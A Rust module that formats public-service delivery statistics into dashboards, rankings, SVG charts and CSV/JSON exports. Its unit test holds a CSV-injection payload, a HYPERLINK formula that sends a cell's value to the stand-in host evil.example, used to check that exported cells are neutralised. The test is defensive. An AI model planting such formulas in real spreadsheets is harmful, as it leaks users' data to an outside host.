//! Statistics views: the dashboard, month pages, data notes, each agency's series and each
//! procedure's delivery, charts as inline SVG, and the CSV/JSON downloads. Numbers come from
//! `derive::stats` (exact); this module only formats them.

use super::format::Formatter;
use super::format::{count, percent};
use super::urls::Urls;
use crate::derive::stats::aggregates;
use crate::derive::stats::series::{Months, Series};
use crate::derive::stats::{Indicators, Ratio};
use crate::diag::Diagnostic;
use crate::model::Content;
use crate::model::stats::{Col, Period};
use serde::Serialize;
use std::fmt::Write as _;

pub struct StatsViews<'a> {
    pub series: &'a Series,
    /// `on_time_target` from site.toml, in basis points.
    pub target: Option<u64>,
    /// `min_ranked_dossiers` from site.toml: fewer resolved dossiers are not ranked.
    pub min_ranked: u64,
    content: &'a Content,
    urls: &'a Urls,
    fmt: &'a Formatter,
}

/// One headline figure with its changes, in words a citizen reads.
#[derive(Debug, Serialize)]
pub struct Figure {
    pub label: String,
    pub value: String,
    pub vs_month: Option<String>,
    pub vs_year: Option<String>,
    /// "Cứ 100 hồ sơ thì 98 hồ sơ được trả đúng hạn": the figure as a plain sentence.
    pub sentence: Option<String>,
    /// What the figure counts.
    pub definition: String,
    /// The target (on-time rate), and whether the figure meets it.
    pub target: Option<String>,
    pub target_met: Option<bool>,
}

/// Whether a higher figure is better, worse, or neither.
#[derive(Clone, Copy, PartialEq)]
enum Better {
    Higher,
    Lower,
    Neither,
}

/// The ranking of a period: agencies with enough dossiers, and the others.
#[derive(Debug, Serialize)]
pub struct RankingView {
    pub ranked: Vec<TableRow>,
    pub too_few: Vec<TableRow>,
    pub min: String,
}

/// A row of an indicator table (an agency, a month, a quarter…).
#[derive(Debug, Serialize)]
pub struct TableRow {
    pub label: String,
    pub url: Option<String>,
    pub received: String,
    pub online: String,
    pub on_time: String,
    pub progress: String,
    pub satisfaction: String,
    pub backlog: String,
    /// The on-time rate against `on_time_target`: met or not, when both are known.
    pub target_met: Option<bool>,
    /// "17 cơ quan": how many agencies reported in the period (year and quarter tables).
    pub reporting: Option<String>,
    /// Why a period is incomplete ("8/12 tháng"), when it is.
    pub incomplete: Option<String>,
}

/// An agency's or the site's monthly series: chart and table.
#[derive(Debug, Serialize)]
pub struct SeriesView {
    pub chart: String,
    pub rows: Vec<TableRow>,
}

/// "How this procedure is delivered", last 12 months.
#[derive(Debug, Serialize)]
pub struct DeliveryView {
    pub from: String,
    pub to: String,
    pub received: String,
    pub on_time: String,
    pub online: String,
    pub avg_days: String,
    pub legal_deadline: Option<String>,
}

impl<'a> StatsViews<'a> {
    pub fn new(
        content: &'a Content,
        series: &'a Series,
        urls: &'a Urls,
        fmt: &'a Formatter,
    ) -> Self {
        StatsViews {
            series,
            target: None,
            min_ranked: 0,
            content,
            urls,
            fmt,
        }
    }

    fn lang(&self) -> &'static str {
        self.fmt.lang.code()
    }

    pub fn month_label(&self, p: Period) -> String {
        format!("{:02}/{}", p.month, p.year)
    }

    fn rate(&self, r: Option<Ratio>) -> String {
        percent(r.and_then(Ratio::basis_points), self.lang())
    }

    fn count(&self, n: Option<u64>) -> String {
        n.map_or_else(|| "—".to_owned(), |n| count(n, self.lang()))
    }

    fn row(&self, label: String, url: Option<String>, i: &Indicators) -> TableRow {
        TableRow {
            label,
            url,
            received: self.count(i.received),
            online: self.rate(i.online),
            on_time: self.rate(i.on_time),
            progress: self.rate(i.progress),
            satisfaction: self.rate(i.satisfaction),
            backlog: self.count(i.pending_overdue),
            target_met: self.meets(i.on_time),
            reporting: None,
            incomplete: None,
        }
    }

    /// The target as people write it: "95 %", "97,5 %".
    pub fn target_label(&self) -> Option<String> {
        let p = percent(Some(self.target?), self.lang());
        Some(p.replace(",00", "").replace(".00", ""))
    }

    fn meets(&self, r: Option<Ratio>) -> Option<bool> {
        Some(r?.basis_points()? >= self.target?)
    }

    /// A year's or a quarter's row: how many agencies reported, and whether months are missing.
    fn span_row(&self, label: String, t: &aggregates::SpanTotal) -> TableRow {
        let mut row = self.row(label, None, &t.indicators);
        row.reporting = Some(
            self.fmt
                .t("stats.agencies_n")
                .replace("{n}", &t.agencies.to_string()),
        );
        row.incomplete = (t.months < t.of).then(|| {
            self.fmt
                .t("stats.months_of")
                .replace("{n}", &t.months.to_string())
                .replace("{of}", &t.of.to_string())
        });
        row
    }

    /// Headline figures of a month, with changes against the month before and a year before,
    /// each said as a sentence, defined, and marked better or worse.
    pub fn headline(&self, p: Period) -> Vec<Figure> {
        let aggregates::Comparison {
            now,
            month_before: month,
            year_before: year,
        } = aggregates::compare_month(self.series, p);
        let t = |k: &str| self.fmt.t(k).to_owned();
        let counts = |f: fn(&Indicators) -> Option<u64>, key: &str, better: Better| Figure {
            label: t(&format!("stats.{key}")),
            value: self.count(f(&now)),
            vs_month: self.count_change(f(&now), f(&month), better),
            vs_year: self.count_change(f(&now), f(&year), better),
            sentence: f(&now)
                .map(|n| t(&format!("stats.sentence.{key}")).replace("{n}", &self.count(Some(n)))),
            definition: t(&format!("stats.def.{key}")),
            target: None,
            target_met: None,
        };
        let rates = |f: fn(&Indicators) -> Option<Ratio>, key: &str, better: Better| Figure {
            label: t(&format!("stats.{key}")),
            value: self.rate(f(&now)),
            vs_month: self.point_change(f(&now), f(&month), better),
            vs_year: self.point_change(f(&now), f(&year), better),
            sentence: f(&now).and_then(Ratio::basis_points).map(|bp| {
                t(&format!("stats.sentence.{key}")).replace("{n}", &per_hundred(bp).to_string())
            }),
            definition: t(&format!("stats.def.{key}")),
            target: None,
            target_met: None,
        };
        let mut on_time = rates(|i| i.on_time, "on_time", Better::Higher);
        on_time.target = self.target_label();
        if on_time.target.is_some() {
            on_time.target_met = self.meets(now.on_time);
        }
        vec![
            on_time,
            counts(|i| i.received, "received", Better::Neither),
            rates(|i| i.online, "online", Better::Higher),
            rates(|i| i.full_online, "full_online", Better::Higher),
            rates(|i| i.progress, "progress", Better::Higher),
            counts(|i| i.pending_overdue, "backlog", Better::Lower),
            rates(|i| i.online_payment, "online_payment", Better::Higher),
            rates(|i| i.digitisation, "digitisation", Better::Higher),
            rates(|i| i.satisfaction, "satisfaction", Better::Higher),
        ]
    }

    /// "tốt hơn" / "kém hơn" / "" for a change, given which way is better.
    fn verdict(&self, up: bool, same: bool, better: Better) -> String {
        let key = match (same, better, up) {
            (true, _, _) => "stats.same",
            (false, Better::Neither, true) => "stats.more",
            (false, Better::Neither, false) => "stats.fewer",
            (false, Better::Higher, true) | (false, Better::Lower, false) => "stats.better",
            (false, _, _) => "stats.worse",
        };
        self.fmt.t(key).to_owned()
    }

    fn count_change(&self, now: Option<u64>, then: Option<u64>, better: Better) -> Option<String> {
        let (now, then) = (now?, then?);
        let sign = if now >= then { "+" } else { "−" };
        Some(format!(
            "{sign}{} ({})",
            count(now.abs_diff(then), self.lang()),
            self.verdict(now > then, now == then, better)
        ))
    }

    fn point_change(
        &self,
        now: Option<Ratio>,
        then: Option<Ratio>,
        better: Better,
    ) -> Option<String> {
        let (now, then) = (now?.basis_points()?, then?.basis_points()?);
        let sign = if now >= then { "+" } else { "−" };
        let diff = now.abs_diff(then);
        let sep = if self.lang() == "vi" { ',' } else { '.' };
        Some(format!(
            "{sign}{}{sep}{:02} {} ({})",
            diff / 100,
            diff % 100,
            self.fmt.t("stats.points"),
            self.verdict(now > then, now == then, better)
        ))
    }

    /// The ranking of a month: agencies that resolved at least `min_ranked` dossiers,
    /// best on-time rate first; the others apart, A–Z.
    pub fn ranking_view(&self, p: Period) -> RankingView {
        let r = crate::derive::stats::ranking(self.content, self.series, p, self.min_ranked);
        let rows = |rows: &[(usize, Indicators)]| -> Vec<TableRow> {
            rows.iter()
                .map(|(idx, i)| {
                    let a = &self.content.agencies[*idx];
                    self.row(a.name.clone(), Some(self.urls.agency(&a.id)), i)
                })
                .collect()
        };
        RankingView {
            ranked: rows(&r.ranked),
            too_few: rows(&r.too_few),
            min: count(self.min_ranked, self.lang()),
        }
    }

    /// Each level of government over the 12 months ending at `p` (agencies' totals).
    pub fn by_level(&self, p: Period) -> Vec<TableRow> {
        aggregates::by_level(self.content, self.series, p)
            .into_iter()
            .map(|t| self.row(t.label.to_owned(), None, &t.indicators))
            .collect()
    }

    /// Each field over the 12 months ending at `p`, from procedures' own rows.
    pub fn by_field(&self, p: Period) -> Vec<TableRow> {
        aggregates::by_field(self.content, self.series, p)
            .into_iter()
            .map(|t| {
                self.row(
                    t.label.to_owned(),
                    Some(self.urls.field(t.id)),
                    &t.indicators,
                )
            })
            .collect()
    }

    /// An agency's procedures with their own rows, over the agency's last 12 months.
    pub fn agency_procedures(&self, agency: &str) -> Vec<TableRow> {
        aggregates::agency_procedures(self.content, self.series, agency)
            .into_iter()
            .map(|(p, i)| self.row(p.name.clone(), Some(self.urls.procedure(&p.slug)), &i))
            .collect()
    }

    /// The site's years and the last 8 quarters.
    pub fn years(&self) -> Vec<TableRow> {
        aggregates::years(self.series)
            .iter()
            .map(|t| self.span_row(t.year.to_string(), t))
            .collect()
    }

    pub fn quarters(&self) -> Vec<TableRow> {
        aggregates::quarters(self.series)
            .iter()
            .map(|t| {
                let q = t.quarter.unwrap_or_default();
                let label = format!("{} {q}/{}", self.fmt.t("stats.quarter"), t.year);
                self.span_row(label, t)
            })
            .collect()
    }

    /// The rolling 12 months ending at `p`.
    pub fn rolling(&self, p: Period) -> TableRow {
        let (from, i) = aggregates::rolling(self.series, p);
        self.row(
            format!("{} – {}", self.month_label(from), self.month_label(p)),
            None,
            &i,
        )
    }

    /// Month pages, newest first.
    pub fn month_links(&self) -> Vec<TableRow> {
        aggregates::months(self.series)
            .iter()
            .map(|(p, i)| {
                self.row(
                    self.month_label(*p),
                    Some(self.urls.stats_month(&p.to_string())),
                    i,
                )
            })
            .collect()
    }

    /// A monthly series (the whole site, or one agency), the last 24 months with figures.
    pub fn series_view(&self, units: &[&Months], id: &str, title: &str) -> Option<SeriesView> {
        let points = aggregates::recent(units, 24)?;
        let chart = self.chart(id, title, &points);
        let rows = points
            .iter()
            .rev()
            .map(|(p, i)| self.row(self.month_label(*p), None, i))
            .collect();
        Some(SeriesView { chart, rows })
    }

    pub fn site_series(&self) -> Option<SeriesView> {
        let units: Vec<&Months> = self.series.agencies.values().collect();
        self.series_view(&units, "bieu-do-toan-tinh", self.fmt.t("stats.trend"))
    }

    pub fn agency_series(&self, id: &str, name: &str) -> Option<SeriesView> {
        let m = self.series.agencies.get(id)?;
        self.series_view(&[m], &format!("bieu-do-{id}"), name)
    }

    /// The procedure's last 12 months, when it has rows.
    pub fn delivery(&self, slug: &str, legal_deadline: Option<String>) -> Option<DeliveryView> {
        let (from, to, i) = aggregates::delivery(self.series, slug)?;
        let days = i.avg_days.map(|d| {
            let sep = if self.lang() == "vi" { ',' } else { '.' };
            format!(
                "{}{sep}{} {}",
                d / 100,
                (d % 100 + 5) / 10 % 10,
                self.fmt.t("stats.days")
            )
        });
        Some(DeliveryView {
            from: self.month_label(from),
            to: self.month_label(to),
            received: self.count(i.received),
            on_time: self.rate(i.on_time),
            online: self.rate(i.online),
            avg_days: days.unwrap_or_else(|| "—".to_owned()),
            legal_deadline,
        })
    }

    /// Revisions with an anchor each, newest first, for the public data notes.
    pub fn revision_list(&self) -> Vec<RevisionView> {
        let mut out: Vec<RevisionView> = self
            .content
            .stats
            .rows
            .iter()
            .filter_map(|r| {
                Some(RevisionView {
                    id: revision_id(r.period, &r.agency),
                    period: self.month_label(r.period),
                    agency: self.agency_name(&r.agency),
                    note: r.note.clone()?,
                    sort: (r.period, r.agency.clone()),
                })
            })
            .collect();
        out.sort_by(|a, b| b.sort.cmp(&a.sort));
        out
    }

    fn agency_name(&self, id: &str) -> String {
        self.content
            .agencies
            .iter()
            .find(|a| a.id == id)
            .map_or_else(|| id.to_owned(), |a| a.name.clone())
    }

    /// The statistics warnings of a run, said for the public: which month, which agency,
    /// what does not add up, and the revision that explains it when there is one.
    pub fn public_notes(&self, diags: &[Diagnostic]) -> Vec<DataNote> {
        let rows = &self.content.stats.rows;
        let revisions: std::collections::BTreeSet<(Period, &str)> = rows
            .iter()
            .filter(|r| r.note.is_some())
            .map(|r| (r.period, r.agency.as_str()))
            .collect();
        let t = |k: &str| self.fmt.t(k).to_owned();
        let n = |v: Option<u64>| self.count(v);
        diags
            .iter()
            .filter(|d| d.file.starts_with("content/stats/"))
            .map(|d| {
                let row = rows
                    .iter()
                    .find(|r| r.file == d.file && r.pos.line == d.line);
                let Some(r) = row else {
                    return DataNote {
                        period: String::new(),
                        agency: String::new(),
                        text: t("notes.other"),
                        revision: None,
                    };
                };
                let prev = r.period.previous();
                let text = if d.message.starts_with("carried_over") {
                    let before = rows.iter().find(|x| {
                        x.period == prev && x.agency == r.agency && x.procedure == r.procedure
                    });
                    let expected = before.and_then(|b| {
                        b.sum(&[Col::PendingInTime, Col::PendingOverdue])
                            .map(|p| p + b.get(Col::Suspended).unwrap_or(0))
                    });
                    t("notes.continuity")
                        .replace("{carried}", &n(r.get(Col::CarriedOver)))
                        .replace("{prev}", &self.month_label(prev))
                        .replace("{expected}", &n(expected))
                } else if d.message.contains("add up to") {
                    t("notes.sum")
                } else if d.message.contains("10×") || d.message.contains("jump") {
                    t("notes.jump")
                } else {
                    t("notes.other")
                };
                let revision = [r.period, prev]
                    .into_iter()
                    .find(|p| revisions.contains(&(*p, r.agency.as_str())))
                    .map(|p| format!("#{}", revision_id(p, &r.agency)));
                DataNote {
                    period: self.month_label(r.period),
                    agency: self.agency_name(&r.agency),
                    text,
                    revision,
                }
            })
            .collect()
    }

    /// Notes editors wrote on rows (revisions), newest first.
    pub fn revisions(&self) -> Vec<(String, String, String)> {
        let mut out: Vec<(String, String, String)> = self
            .content
            .stats
            .rows
            .iter()
            .filter_map(|r| {
                let note = r.note.clone()?;
                let agency = self
                    .content
                    .agencies
                    .iter()
                    .find(|a| a.id == r.agency)
                    .map_or_else(|| r.agency.clone(), |a| a.name.clone());
                Some((r.period.to_string(), agency, note))
            })
            .collect();
        out.sort_by(|a, b| b.cmp(a));
        out.into_iter()
            .map(|(p, a, n)| (Period::parse(&p).map_or(p, |p| self.month_label(p)), a, n))
            .collect()
    }

    /// A line chart of on-time rate and online take-up: inline SVG, readable without colour.
    fn chart(&self, id: &str, title: &str, points: &[(Period, Indicators)]) -> String {
        // Narrow on purpose: at 360 px the chart is drawn about 328 px wide, so 16-unit text
        // renders at about 12.5 px; the top label sits below the edge (T) so nothing is clipped.
        const W: f64 = 420.0;
        const H: f64 = 250.0;
        const L: f64 = 62.0;
        const R: f64 = 96.0;
        const T: f64 = 26.0;
        const B: f64 = 36.0;
        let n = points.len().max(2) as f64 - 1.0;
        let x = |i: usize| L + (W - L - R) * i as f64 / n;
        let y = |bp: u64| T + (H - T - B) * (1.0 - bp as f64 / 10_000.0);
        let esc = super::escape_html;
        let t = |k: &'static str| self.fmt.t(k);
        let on_time: Vec<Option<u64>> = points
            .iter()
            .map(|(_, i)| i.on_time.and_then(Ratio::basis_points))
            .collect();
        let online: Vec<Option<u64>> = points
            .iter()
            .map(|(_, i)| i.online.and_then(Ratio::basis_points))
            .collect();
        let lang = self.lang();
        let last = points.len() - 1;
        let first_label = self.month_label(points[0].0);
        let last_label = self.month_label(points[last].0);
        let desc = t("stats.chart_desc")
            .replace("{from}", &first_label)
            .replace("{to}", &last_label)
            .replace("{on_time_from}", &percent(on_time[0], lang))
            .replace("{on_time_to}", &percent(on_time[last], lang))
            .replace("{online_from}", &percent(online[0], lang))
            .replace("{online_to}", &percent(online[last], lang));
        let mut s = String::new();
        let _ = write!(
            s,
            r#"<svg class="chart" viewBox="0 0 {W} {H}" role="img" aria-labelledby="{id}-t {id}-d" xmlns="http://www.w3.org/2000/svg"><title id="{id}-t">{}</title><desc id="{id}-d">{}</desc>"#,
            esc(title),
            esc(&desc)
        );
        for v in [0u64, 2500, 5000, 7500, 10_000] {
            let _ = write!(
                s,
                r#"<line class="grid" x1="{L}" x2="{:.1}" y1="{:.1}" y2="{:.1}"/><text class="axis" x="{:.1}" y="{:.1}" text-anchor="end">{}</text>"#,
                W - R,
                y(v),
                y(v),
                L - 6.0,
                y(v) + 5.0,
                esc(&percent(Some(v), lang).replace(",00", "").replace(".00", ""))
            );
        }
        // Four month labels at most, evenly spread: they stay readable when the chart is phone-sized.
        let ticks: Vec<usize> = (0..4).map(|k| k * last / 3).collect();
        for (i, (p, _)) in points.iter().enumerate() {
            if ticks.contains(&i) {
                let _ = write!(
                    s,
                    r#"<text class="axis" x="{:.1}" y="{:.1}" text-anchor="middle">{}</text>"#,
                    x(i),
                    H - 10.0,
                    esc(&self.month_label(*p))
                );
            }
        }
        for (values, class, label, square) in [
            (&on_time, "s1", t("stats.on_time_short"), false),
            (&online, "s2", t("stats.online_short"), true),
        ] {
            // Lines break where a month cannot be computed.
            let mut path = String::new();
            let mut pen = false;
            for (i, v) in values.iter().enumerate() {
                match v {
                    Some(v) => {
                        let _ = write!(
                            path,
                            "{}{:.1},{:.1} ",
                            if pen { "L" } else { "M" },
                            x(i),
                            y(*v)
                        );
                        pen = true;
                    }
                    None => pen = false,
                }
            }
            let _ = write!(s, r#"<path class="line {class}" d="{}"/>"#, path.trim_end());
            for (i, v) in values.iter().enumerate() {
                if let Some(v) = v {
                    if square {
                        let _ = write!(
                            s,
                            r#"<rect class="dot {class}" x="{:.1}" y="{:.1}" width="6" height="6"/>"#,
                            x(i) - 3.0,
                            y(*v) - 3.0
                        );
                    } else {
                        let _ = write!(
                            s,
                            r#"<circle class="dot {class}" cx="{:.1}" cy="{:.1}" r="3.5"/>"#,
                            x(i),
                            y(*v)
                        );
                    }
                }
            }
            if let Some((i, v)) = values
                .iter()
                .enumerate()
                .rev()
                .find_map(|(i, v)| v.map(|v| (i, v)))
            {
                let _ = write!(
                    s,
                    r#"<text class="label {class}" x="{:.1}" y="{:.1}"><title>{}</title>{}</text>"#,
                    x(i) + 8.0,
                    (y(v) + if square { 22.0 } else { -8.0 }).clamp(18.0, H - B - 4.0),
                    esc(label),
                    esc(&percent(Some(v), lang))
                );
            }
        }
        s.push_str("</svg>");
        s
    }

    /// `/api/stats.csv`: every row, normalised, with derived totals and rates.
    pub fn csv(&self) -> String {
        let mut out = String::from("period,agency,procedure");
        for c in Col::ALL {
            out.push(',');
            out.push_str(c.name());
        }
        out.push_str(",avg_days,received,resolved,pending,on_time_rate,progress_rate,online_rate,satisfaction_rate,note\n");
        for r in &self.content.stats.rows {
            let i = Indicators::of(&[r]);
            let _ = write!(
                out,
                "{},{},{}",
                r.period,
                csv_cell(&r.agency),
                csv_cell(r.procedure.as_deref().unwrap_or(""))
            );
            for c in Col::ALL {
                out.push(',');
                if let Some(v) = r.get(c) {
                    out.push_str(&v.to_string());
                }
            }
            out.push(',');
            if let Some(d) = r.avg_days {
                let _ = write!(out, "{}.{:02}", d / 100, d % 100);
            }
            for v in [i.received, i.resolved, i.pending] {
                out.push(',');
                if let Some(v) = v {
                    out.push_str(&v.to_string());
                }
            }
            for rate in [i.on_time, i.progress, i.online, i.satisfaction] {
                out.push(',');
                if let Some(bp) = rate.and_then(Ratio::basis_points) {
                    let _ = write!(out, "{}.{:02}", bp / 100, bp % 100);
                }
            }
            let _ = writeln!(out, ",{}", csv_cell(r.note.as_deref().unwrap_or("")));
        }
        out
    }

    /// `/api/stats.json`: the same, with `null` for what was not reported. Serialised row by
    /// row (no JSON tree of every row in memory).
    pub fn json(&self) -> Result<String, crate::json::JsonError> {
        self.json_with(None::<()>)
    }

    /// `/api/stats.json` with the Decision 766 scorecards (`render::scorecard`) beside the rows.
    pub fn json_with<T: Serialize>(
        &self,
        scorecard_766: Option<T>,
    ) -> Result<String, crate::json::JsonError> {
        #[derive(Serialize)]
        struct Doc<'r, T> {
            rows: Vec<JsonRow<'r>>,
            #[serde(skip_serializing_if = "Option::is_none")]
            scorecard_766: Option<T>,
        }
        let doc = Doc {
            rows: self.content.stats.rows.iter().map(JsonRow).collect(),
            scorecard_766,
        };
        crate::json::to_string("api/stats.json", &doc)
    }
}

/// One row of `/api/stats.json`.
struct JsonRow<'r>(&'r crate::model::stats::Row);

impl Serialize for JsonRow<'_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeMap;
        let r = self.0;
        let i = Indicators::of(&[r]);
        let mut m = s.serialize_map(None)?;
        m.serialize_entry("period", &r.period.to_string())?;
        m.serialize_entry("agency", &r.agency)?;
        m.serialize_entry("procedure", &r.procedure)?;
        for c in Col::ALL {
            m.serialize_entry(c.name(), &r.get(c))?;
        }
        m.serialize_entry("avg_days", &r.avg_days.map(|d| d as f64 / 100.0))?;
        m.serialize_entry("received", &i.received)?;
        m.serialize_entry("resolved", &i.resolved)?;
        m.serialize_entry("pending", &i.pending)?;
        for (k, v) in [
            ("on_time_rate", i.on_time),
            ("progress_rate", i.progress),
            ("online_rate", i.online),
            ("satisfaction_rate", i.satisfaction),
        ] {
            m.serialize_entry(k, &v.and_then(Ratio::value))?;
        }
        m.serialize_entry("note", &r.note)?;
        m.end()
    }
}

/// One CSV cell of `/api/stats.csv`, safe to open in a spreadsheet: a cell that starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula there (OWASP "CSV
/// injection"), so it gets a leading `'` (a plain negative number stays as it is); a cell with
/// a comma, quote, CR or LF is quoted.
pub(crate) fn csv_cell(s: &str) -> String {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_negative_number(s);
    let s = if risky { format!("'{s}") } else { s.to_owned() };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// A revision (a row's note) on the data-notes page.
#[derive(Debug, Serialize)]
pub struct RevisionView {
    pub id: String,
    pub period: String,
    pub agency: String,
    pub note: String,
    #[serde(skip)]
    sort: (Period, String),
}

/// A published figure that does not add up, in words for the public.
#[derive(Debug, Serialize)]
pub struct DataNote {
    pub period: String,
    pub agency: String,
    pub text: String,
    /// `#anchor` of the revision that explains it.
    pub revision: Option<String>,
}

/// "Out of 100": rounded, but never 100 unless all, never 0 unless none.
fn per_hundred(bp: u64) -> u64 {
    let n = (bp + 50) / 100;
    match bp {
        0 => 0,
        10_000.. => 100,
        _ => n.clamp(1, 99),
    }
}

fn revision_id(p: Period, agency: &str) -> String {
    format!("dieu-chinh-{p}-{agency}")
}

/// `-12`, `-1.5`, `-1,5`: a number, not a formula.
fn is_negative_number(s: &str) -> bool {
    let Some(digits) = s.strip_prefix('-') else {
        return false;
    };
    let (whole, frac) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
    !whole.is_empty()
        && !frac.is_empty()
        && whole
            .bytes()
            .chain(frac.bytes())
            .all(|b| b.is_ascii_digit())
}

/// The statistics warnings of a run, for the public data-notes page.
pub fn data_warnings(diags: &[Diagnostic]) -> Vec<(String, String)> {
    diags
        .iter()
        .filter(|d| d.file.starts_with("content/stats/"))
        .map(|d| {
            (
                format!("{}:{}", d.file.trim_start_matches("content/"), d.line),
                d.message.clone(),
            )
        })
        .collect()
}

#[cfg(test)]
mod per_hundred_tests {
    #[test]
    fn per_hundred_says_all_or_none_only_when_true() {
        assert_eq!(super::per_hundred(9_952), 99);
        assert_eq!(super::per_hundred(9_815), 98);
        assert_eq!(super::per_hundred(10_000), 100);
        assert_eq!(super::per_hundred(30), 1);
        assert_eq!(super::per_hundred(0), 0);
    }
}

#[cfg(test)]
mod tests {
    use super::csv_cell;

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_neutralised() {
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(csv_cell("+1+cmd"), "'+1+cmd");
        assert_eq!(csv_cell("-2+3"), "'-2+3");
        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_cell("\tx"), "'\tx");
        assert_eq!(csv_cell("\rx"), "\"'\rx\"");
        assert_eq!(csv_cell("a\rb"), "\"a\rb\"", "a bare CR is quoted");
        assert_eq!(csv_cell("-12"), "-12", "a plain negative number stays");
        assert_eq!(csv_cell("-1,5"), "\"-1,5\"");
        assert_eq!(csv_cell("Điều chỉnh"), "Điều chỉnh");
    }
}
